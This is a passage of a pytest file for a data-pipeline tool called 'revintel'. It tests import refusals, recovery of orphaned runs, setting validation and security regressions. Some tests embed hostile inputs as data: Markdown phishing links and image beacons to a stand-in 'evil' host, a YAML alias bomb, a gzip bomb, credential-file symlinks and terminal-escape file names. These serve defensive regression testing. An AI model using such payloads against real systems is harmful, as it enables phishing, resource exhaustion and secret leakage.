    assert "REVINTEL_FOLDER_MAPPING" in _failure(unattended)
    assert _import_with(tmp_path, monkeypatch, folder, {"revintel/launched_by": "cli"}).success
    assert _import_with(tmp_path, monkeypatch, folder, {}, REVINTEL_FOLDER_MAPPING="true").success


def test_source_roots_limit_what_the_launchpad_can_point_at(tmp_path, monkeypatch):
    folder = _tidy_source(tmp_path / "outside")
    (tmp_path / "allowed").mkdir()
    refused = _import_with(tmp_path, monkeypatch, folder, {}, REVINTEL_SOURCE_ROOTS=str(tmp_path / "allowed"))
    assert not refused.success
    assert "REVINTEL_SOURCE_ROOTS" in _failure(refused)
    assert _import_with(tmp_path, monkeypatch, folder, {}, REVINTEL_SOURCE_ROOTS=f"/nowhere:{tmp_path}").success


def test_a_run_left_started_by_a_stopped_ui_is_failed_and_frees_its_slot_when_the_ui_starts(tmp_path, monkeypatch,
                                                                                              capsys):
    """An audit stopped `revintel ui` with a run in flight: the run stayed STARTED with the one
    `warehouse` pool slot, and every later warehouse run (the nightly too) stayed QUEUED. The next UI
    start fails it and frees the slot; a CLI run that is alive (its pid tag) is left alone, and so is
    every run while another UI serves the data directory (a review: `revintel run` serves by default)."""
    import os

    import dagster as dg

    import subprocess
    import sys

    from revintel_assets.cli import _claim_ui
    from revintel_resources.instance import PID_TAG, dagster_instance

    monkeypatch.setenv("REVINTEL_DATA_DIR", str(tmp_path))

    tiny = tiny_job()

    instance = dagster_instance()
    try:
        orphan = instance.create_run_for_job(job_def=tiny, status=dg.DagsterRunStatus.STARTED)
        alive = instance.create_run_for_job(job_def=tiny, status=dg.DagsterRunStatus.STARTED,
                                            tags={PID_TAG: str(os.getpid())})
        storage = instance.event_log_storage
        storage.set_concurrency_slots("warehouse", 1)
        storage.claim_concurrency_slot("warehouse", orphan.run_id, "features__deal_snapshot")
        assert storage.get_concurrency_info("warehouse").active_slot_count == 1
        # another UI serves the data directory (it holds the UI lock): its runs are alive, left alone
        holder = subprocess.Popen([sys.executable, "-c", "import filelock, sys, time; "
                                   "lock = filelock.FileLock(sys.argv[1]); lock.acquire(); print('held', flush=True); "
                                   "time.sleep(60)", str(tmp_path / ".ui.lock")], stdout=subprocess.PIPE, text=True)
        try:
            assert holder.stdout.readline().strip() == "held"
            assert _claim_ui() is None
            assert "another revintel ui serves this data directory" in capsys.readouterr().err
            assert instance.get_run_by_id(orphan.run_id).status == dg.DagsterRunStatus.STARTED
        finally:
            holder.kill()
            holder.wait()
        lock = _claim_ui()  # the other UI is gone: this one recovers
        assert lock is not None
        lock.release()
        assert "1 run(s) left started when the UI last stopped were marked failed" in capsys.readouterr().out
        assert instance.get_run_by_id(orphan.run_id).status == dg.DagsterRunStatus.FAILURE
        assert instance.get_run_by_id(alive.run_id).status == dg.DagsterRunStatus.STARTED
        assert storage.get_concurrency_info("warehouse").active_slot_count == 0
    finally:
        instance.dispose()


def test_an_unattended_import_never_replaces_the_warehouses_source(tmp_path, monkeypatch):
    """The source-files sensor imported a half-written re-export whose data ended earlier: "an older
    export replaces the newer one" dropped every score, forecast and model, and the publish sensor
    published the emptied warehouse. A sensor's import refuses (one message, naming the command that
    does replace it), inside its transaction: the warehouse keeps its source. A person's run replaces it."""
    import duckdb

    folder = _tidy_source(tmp_path / "src")
    assert _import_with(tmp_path, monkeypatch, folder, {"revintel/launched_by": "cli"}).success
    full = (folder / "transactions.csv").read_text()
    lines = full.splitlines()  # cut off mid-export: the second half of the year not written yet
    (folder / "transactions.csv").write_text("\n".join([lines[0]] + [x for x in lines[1:] if "-0" in x[4:12] and
                                                                      x.split(",")[1] < "2024-07"]) + "\n")
    refused = _import_with(tmp_path, monkeypatch, folder, {"revintel/trigger": "source files",
                                                           "dagster/sensor_name": "source_files_changed"})
    assert not refused.success
    err = refused.get_step_failure_events()[0].event_specific_data.error
    message = err.cause.message if err.cause else err.message
    assert "An unattended import does not replace" in message and "its data now ends 2024-06-05" in message, message
    with duckdb.connect(str(tmp_path / "data" / "warehouse" / ".work" / "revintel.duckdb"), read_only=True) as con:
        assert con.execute("SELECT export_date::VARCHAR FROM meta.source").fetchall() == [("2024-12-05",)]
        assert con.execute("SELECT count(*) FROM staging.transactions").fetchall() == [(36,)]  # not the 18 read
    # the same dates, but a file cut off and left so (an exporter that crashed): two customers' rows gone
    (folder / "transactions.csv").write_text("\n".join([lines[0]] + [x for x in lines[1:] if x.startswith("C0,")]) + "\n")
    cut = _import_with(tmp_path, monkeypatch, folder, {"revintel/trigger": "source files"})
    err = cut.get_step_failure_events()[0].event_specific_data.error
    message = err.cause.message if err.cause else err.message
    assert "transactions.csv holds 12 rows, 36 at the last import (a file cut off?)" in message, message
    assert _import_with(tmp_path, monkeypatch, folder, {"revintel/launched_by": "cli"}).success  # a person: taken
    (folder / "transactions.csv").write_text("\n".join([lines[0]] + [x for x in lines[1:] if x.split(",")[1] < "2024-07"]) + "\n")
    assert _import_with(tmp_path, monkeypatch, folder, {"revintel/launched_by": "cli"}).success  # the older one: replaced


@pytest.mark.parametrize("env, argv, code, said", [
    ({"REVINTEL_WORKERS": "abc"}, ["generate", "--out", "{tmp}/g"], 2, "REVINTEL_WORKERS='abc': Input should be a valid integer"),
    ({"REVINTEL_FISCAL_YEAR_START_MONTH": "13"}, ["ui"], 2, "REVINTEL_FISCAL_YEAR_START_MONTH='13'"),
    ({"REVINTEL_DATA_DIR": "{tmp}/data", "REVINTEL_DUCKDB_MEMORY_LIMIT": "lots"}, ["run", "--no-serve", "--source", "{tmp}"],
     2, "REVINTEL_DUCKDB_MEMORY_LIMIT='lots': expected a size above 0 such as 6GB or 512MiB"),  # it failed in the first job
    ({"REVINTEL_DATA_DIR": "{tmp}/data", "REVINTEL_WAREHOUSE": "snowflake"}, ["run", "--no-serve", "--source", "{tmp}"],
     2, "REVINTEL_WAREHOUSE='snowflake' is not a warehouse revintel can write to"),  # so did this
    ({"REVINTEL_DATA_DIR": "{tmp}/afile/sub"}, ["run", "--no-serve", "--source", "{tmp}"], 1,
     "cannot use {tmp}/afile/sub (REVINTEL_DATA_DIR): Not a directory"),
    ({"REVINTEL_DATA_DIR": "{tmp}/afile/sub"}, ["ui"], 1, "cannot use {tmp}/afile/sub (REVINTEL_DATA_DIR)"),
    ({}, ["generate", "--out", "{tmp}/afile/sub"], 1, "cannot use {tmp}/afile/sub (--out)"),
    ({"REVINTEL_DATA_DIR": "{tmp}/data"}, ["run", "--no-serve", "--source", "{tmp}", "--cluster", "not a url"], 2,
     "cannot reach the Dask scheduler at not a url (--cluster): ValueError: missing port number"),
    ({"REVINTEL_DATA_DIR": "{tmp}/data", "REVINTEL_CLUSTER": "tcp://127.0.0.1:1"}, ["run", "--no-serve", "--source", "{tmp}"],
     2, "cannot reach the Dask scheduler at tcp://127.0.0.1:1 (REVINTEL_CLUSTER): Connection refused"),
    ({"REVINTEL_DATA_DIR": "{tmp}/data", "REVINTEL_CLUSTER": "tcp://127.0.0.1:1"}, ["ui"],  # it started the UI, and
     2, "cannot reach the Dask scheduler at tcp://127.0.0.1:1 (REVINTEL_CLUSTER): Connection refused"),  # every run failed
])
def test_bad_settings_and_unusable_folders_are_one_line(tmp_path, monkeypatch, capsys, env, argv, code, said):
    """An operations audit: each of these was a Python traceback (pydantic's ValidationError,
    NotADirectoryError from the run lock's mkdir)."""
    from revintel_assets.cli import main

    (tmp_path / "afile").write_text("a file where a folder should be")
    for k, v in env.items():
        monkeypatch.setenv(k, v.format(tmp=tmp_path))
    assert main([a.format(tmp=tmp_path) for a in argv]) == code
    err = capsys.readouterr().err.strip().splitlines()
    assert err == [f"revintel: {said.format(tmp=tmp_path)}"] or (len(err) == 1 and said.format(tmp=tmp_path) in err[0]), err


def test_a_misspelt_setting_is_named_with_the_one_meant(tmp_path, monkeypatch, capsys):
    from revintel_assets.cli import _settings_problems

    monkeypatch.setenv("REVINTEL_DATADIR", str(tmp_path))
    assert _settings_problems() is None
    assert "REVINTEL_DATADIR is not a setting revintel reads; did you mean REVINTEL_DATA_DIR?" in capsys.readouterr().err


def test_a_cluster_address_where_something_else_listens_is_refused_in_seconds(tmp_path, monkeypatch, capsys):
    """An HTTP server (or Dask's dashboard port) at the --cluster address: the run hung for good in
    Dask's handshake, holding the run lock (an operations audit)."""
    import http.server
    import threading
    import time

    from revintel_assets.cli import main

    server = http.server.HTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("REVINTEL_DATA_DIR", str(tmp_path / "data"))
    start = time.monotonic()
    try:
        code = main(["run", "--no-serve", "--source", str(tmp_path), "--cluster", f"tcp://127.0.0.1:{server.server_port}"])
    finally:
        server.shutdown()
    assert code == 2 and time.monotonic() - start < 30
    assert "sent no Dask handshake in 5 s" in capsys.readouterr().err


def test_an_expression_that_divides_by_zero_is_quarantined_not_infinite(box):
    """An audit: `amount: "Gesamt / Menge"` over a line of quantity 0 imported an infinite amount, nothing
    quarantined, and the run failed later casting it to a decimal. It is quarantined as not a number."""
    (box["src"] / "transactions.csv").write_text(TIDY.replace("C2,2024-02-05,S2,1,3,1,3", "C2,2024-02-05,S2,1,3,0,3"))
    _mapping(box["src"], "layout: tidy\ncolumns:\n  amount: UnitPrice / Qty\n")
    con, _ = _import(box["src"])
    assert con.execute("SELECT customer_id, amount FROM staging.transactions ORDER BY 1").fetchall() == [("C1", 2.625)]
    assert con.execute("SELECT reason FROM staging.quarantine_new WHERE line_number = 3").fetchall() == [("amount 'inf' is not a number",)]


def test_data_never_reaches_markdown_as_markup_outside_the_pages():
    """An audit: a ?as_of= link, a currency code and the Dagster UI's table previews rendered data as
    Markdown (a phishing link, image beacons)."""
    import polars as pl

    from dashboards.as_of import unscored_request
    from revintel_assets.defs.ingest.source import ImportReport, SourceLayout
    from revintel_assets.metadata import _escaped

    said = unscored_request("x** [Session expired](http://evil/phish) ![b](http://evil/b.png) **", [], None)
    assert "](" not in said and "http://" not in said
    report = ImportReport(SourceLayout(Path(".")), files={"Opportunity.csv": {"currencies": {"![C](HTTP://E/X.PNG)": 3}}})
    assert report.currency is None
    assert ImportReport(SourceLayout(Path(".")), files={"Opportunity.csv": {"currencies": {"EUR": 3}}}).currency == "EUR"
    preview = _escaped(pl.DataFrame({"rep_name": ["[rephish](http://evil/l)"], "n": [1]}))
    assert "](" not in preview["rep_name"][0] and preview["n"][0] == 1


def test_a_mapping_with_aliases_or_deep_nesting_is_one_clear_message(box):
    """An audit: nine levels of nine YAML aliases held the run at 2.9 GB until a MemoryError, and
    100,000 nested brackets ended in a RecursionError trace. Both are refused naming the file."""
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
    path = _mapping(box["src"], "stages:\n" + "".join("  " + line + "\n" for line in bomb.splitlines()))
    with pytest.raises(SourceError, match="alias") as err:
        import_source(duckdb.connect(), box["src"])
    assert err.value.path == path
    _mapping(box["src"], "columns: " + "[" * 100_000 + "]" * 100_000 + "\n")
    with pytest.raises(SourceError, match="nesting too deep|mapping"):
        import_source(duckdb.connect(), box["src"])


def test_symlinks_out_of_the_folder_are_never_read_not_even_for_a_hint(box):
    """An audit: a notes.csv symlinked to a credentials file had its header quoted in the run's hint, and
    a revintel_mapping.yaml symlinked to a config file had its keys quoted in the mapping error."""
    from revintel_assets.defs.ingest.source import detect_layout

    (box["src"] / "transactions.csv").unlink()
    (box["src"] / "notes.csv").symlink_to(box["secret"])
    with pytest.raises(SourceError) as err:
        detect_layout(box["src"])
    assert SECRET not in str(err.value)
    (box["src"] / "notes.csv").unlink()
    (box["src"] / "transactions.csv").write_text(TIDY)
    config = box["secret"].parent / "app.yaml"
    config.write_text(f"db_password: {SECRET}\n")
    (box["src"] / "revintel_mapping.yaml").symlink_to(config)
    with pytest.raises(SourceError, match="symlink") as err:
        import_source(duckdb.connect(), box["src"])
    assert SECRET not in str(err.value)


def test_a_file_name_cannot_forge_a_console_line():
    """An audit: an empty file named with a newline and terminal escapes printed a forged summary line
    inside the run's 'not read' warning and cleared the screen. Step warnings are echoed escaped."""
    from revintel_assets.progress import printable

    name = "x\n      star|quarantine: 0 rows (FORGED)\x1b[2J\x1b[31m.csv"
    shown = printable(f"not read: {name}")
    assert "\n" not in shown and "\x1b" not in shown and "\\x1b[2J" in shown and "FORGED" in shown


@pytest.mark.parametrize("body, key", [("encoding: 123\n", "encoding"), ("encoding: rot13\n", "encoding"),
                                       ("encoding: ISO-8859-15\n", "encoding"),  # a re-check: read as UTF-8
                                       ("date_formats: ['%Q-%d']\n", "date_formats")])
def test_a_mapping_value_of_the_wrong_kind_names_its_line(box, body, key):
    """An audit: `encoding: 123` ended in an AttributeError trace, `encoding: rot13` was taken, and a date
    format DuckDB does not know failed the run inside DuckDB."""
    path = _mapping(box["src"], "layout: tidy\n" + body)
    with pytest.raises(SourceError, match=key) as err:
        import_source(duckdb.connect(), box["src"])
    assert err.value.path == path and err.value.line == 2


def test_a_gzip_bomb_is_refused_before_it_fills_memory(box, monkeypatch):
    """An audit: 4 MB of .csv.gz expanding to 4 GB ended in a MemoryError. A gzip file expanding past
    500x its size (and past a floor, lowered here) is refused, naming the file."""
    import gzip

    from revintel_assets.defs.ingest import raw_csv

    monkeypatch.setattr(raw_csv, "BOMB_FLOOR", 2**20)
    (box["src"] / "transactions.csv").unlink()
    with gzip.open(box["src"] / "transactions.csv.gz", "wb") as fh:
        fh.write(TIDY.splitlines(keepends=True)[0].encode() + b",,,,,,\n" * 10_000_000)  # 70 MB in ~70 kB
    with pytest.raises(SourceError, match="expands past") as err:
        import_source(duckdb.connect(), box["src"])
    assert err.value.path.name == "transactions.csv.gz"
